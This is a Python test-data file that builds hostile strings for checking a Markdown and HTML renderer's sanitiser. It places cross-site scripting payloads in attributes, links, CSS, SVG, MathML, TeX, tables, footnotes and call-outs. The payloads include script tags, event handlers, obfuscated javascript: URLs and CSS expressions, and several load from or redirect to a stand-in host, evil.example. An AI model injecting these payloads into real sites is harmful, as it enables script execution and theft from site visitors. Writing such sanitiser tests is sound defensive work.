"""Hostile texts: for each kind of place where a text can be typed, every core in every template."""

# Markup that runs, loads or restyles, and what breaks out of text, attributes and comments.
MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script>",
    "<math href='javascript:alert(1)'>a</math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed' onclick=alert(1)>a</p>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>a</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>a</a>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title></style></textarea><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "\"'><svg onload=alert(1)>",
    "'\"><img src=x onerror=alert(1)>",
    "' onfocus='alert(1)' autofocus x='",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
# Places for markup: a text, and the same as entities.
RAW = ["{}", "a {} b", "- {}", "> {}", "<div>{}</div>"]
HANDLERS = "onclick onerror onload onfocus onmouseover onanimationstart ontoggle onpointerdown"
HOLDERS = ["<p {}>a</p>", "<img src=x {}>", "<a href=https://e.org {}>a</a>", "<b/{}/>", "<h2 {}>"]
RUN = ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"]
DISGUISES = [
    lambda address: address,
    str.upper,
    lambda address: f" {address}",
    lambda address: f"\x01{address}",
    lambda address: address.replace("script", "scr\tipt", 1).replace("data", "da\tta", 1),
    lambda address: address.replace("script", "scr&#10;ipt", 1).replace("data", "da&#9;ta", 1),
    lambda address: f"&#{ord(address[0])};{address[1:]}",
    lambda address: f"&#x{ord(address[0]):06x};{address[1:]}",
    lambda address: address.replace(":", "&colon;", 1),
    lambda address: address.replace(":", "\u200b:", 1),
    lambda address: f"https:{address}",
]
LINKS = [
    "[a]({})",
    "[a](<{}>)",
    "[a][b]\n\n[b]: {}",
    "<{}>",
    "<a href='{}'>a</a>",
    "![a]({})",
    "<img src='{}' alt=a>",
]
CSS = [
    "position:fixed;inset:0",
    "background:url(//evil.example/x.png)",
    "width:expression(alert(1))",
    "behavior:url(#default)",
    "-moz-binding:url(//evil.example/x.xml)",
    "content:'</style><script>alert(1)</script>'",
    "@import url(//evil.example)",
    "}*{display:none",
]
TEX = [
    r"$\text{{}}$",
    r"$$\operatorname{{}} x$$",
    r"$\mathrm{{}}$",
    r"$\href{javascript:alert(1)}{{}}$",
    r"$$x \tag{{}}$$",
    r"$\color{{}} x$",
    r"$$\begin{{}} x \end{{}}$$",
    r"$\frac{{}}{b}$",
]


def filled(templates: list[str], cores: list[str]) -> list[str]:
    return [template.replace("{}", core) for template in templates for core in cores]


def quoted(cell: str) -> str:
    """A cell of a CSV."""
    return '"' + cell.replace('"', '""') + '"'


def charts(core: str) -> list[str]:
    harmless = {"title": "T", "y": "S", "series": "a", "name": "b"}
    return [
        "```chart\ntitle: {title}\ny: {y} (ms)\ntype: bar\n\nname,{series}\n{name},1\n```".format(
            **harmless | {place: core if place in ("title", "y") else quoted(core)}
        )
        for place in harmless
    ]


def as_entities(markup: str) -> list[str]:
    named = markup.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return [
        named,
        "".join(f"&#{ord(character)};" for character in markup),
        "".join(f"&#x{ord(character):x}" for character in markup),
        named.replace("&", "&amp;"),
    ]


KINDS = {
    "attributes": filled(
        HOLDERS, [f"{name}=alert(1)" for name in HANDLERS.split()] + ["style=x", "srcdoc=<b>"]
    ),
    "addresses": filled(LINKS, [disguise(run) for run in RUN for disguise in DISGUISES]),
    "entities": [entities for markup in MARKUP for entities in as_entities(markup)],
    "HTML": filled(RAW, MARKUP),
    "SVG namespace": filled(
        [
            "<svg>{}</svg>",
            "<svg><foreignObject>{}</foreignObject></svg>",
            "<svg><title>{}</title></svg>",
            "<svg><style>{}</style></svg>",
        ],
        MARKUP,
    ),
    "MathML namespace": filled(
        [
            "<math><mtext>{}</mtext></math>",
            "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
            "<math><mtext><table><mglyph><style>{}</style></mglyph></table></mtext></math>",
        ],
        MARKUP,
    ),
    "CSS": filled(
        [
            "<style>{}</style>",
            '<p style="{}">a</p>',
            '<span class="k" style="{}">a</span>',
            "<div style='{}'>a</div>",
            "<td style=`{}`>",
        ],
        CSS,
    ),
    "link titles": filled(
        ['[a](https://e.org "{}")', "[a][b]\n\n[b]: https://e.org '{}'", '![a](image:7 "{}")'],
        MARKUP,
    ),
    "footnote names": filled(
        ["a[^{}]\n\n[^{}]: b", "a[^x]\n\n[^x]: {}", "<sup class='footnote-ref' title='{}'>1</sup>"],
        MARKUP,
    ),
    "fence attributes": filled(
        [
            '```python title="{}"\nx\n```',
            "``` {.python {}}\nx\n```",
            "```{}\nx\n```",
            "```\n{}\n```",
        ],
        MARKUP,
    ),
    "chart cells": [chart for core in MARKUP for chart in charts(core)],
    "TeX macros": filled(TEX, MARKUP),
    "table cells": filled(
        ["| {} | b |\n|--|--|\n| c | d |", "| a | b |\n|--|:-:|\n| {} | `{}` |"], MARKUP
    ),
    "claim links": filled(
        [
            "[{}](claim:zhong2024distserve/chat)",
            "[5](claim:zhong2024distserve/{})",
            "[2.0-4.6x](claim:zhong2024distserve/chat '{}')",
            '<a href="claim:zhong2024distserve/chat" title=a>{}</a>',
        ],
        MARKUP,
    ),
    "citation keys": filled(
        ["[@{}]", "[@zhong2024distserve, {}]", "[@zhong2024distserve; @{}, {}]"], MARKUP
    ),
    "call-outs": filled(
        [
            "/// number | {}\n{}\n///",
            "/// aside | {}\n{}\n///",
            "/// derivation | {}\n{} 5 ms\n///",
            "/// derivation | A\n5 ms\n///\n\n[5 ms {}](#a) [5 ms](#a{})",
            "/// derivation | From {}\n5 ms\n///\n\n[5 ms](#from-script-alert-1-script)",
            "/// details | {}\n    attrs: {onclick: x, style: x}\n\n{}\n///",
            "/// problems | {}\n///",
        ],
        MARKUP,
    ),
    "captions": filled(
        [
            "| a |\n|--|\n| b |\n\n/// table-caption\n{}\n///",
            "![a](image:7)\n\n/// figure-caption | #x[onclick=alert(1)]\n{}\n///",
            "![{}](image:7)",
        ],
        MARKUP,
    ),
    "abbreviations": filled(["KV\n\n*[KV]: {}", "{}\n\n*[alert]: {}"], MARKUP),
}
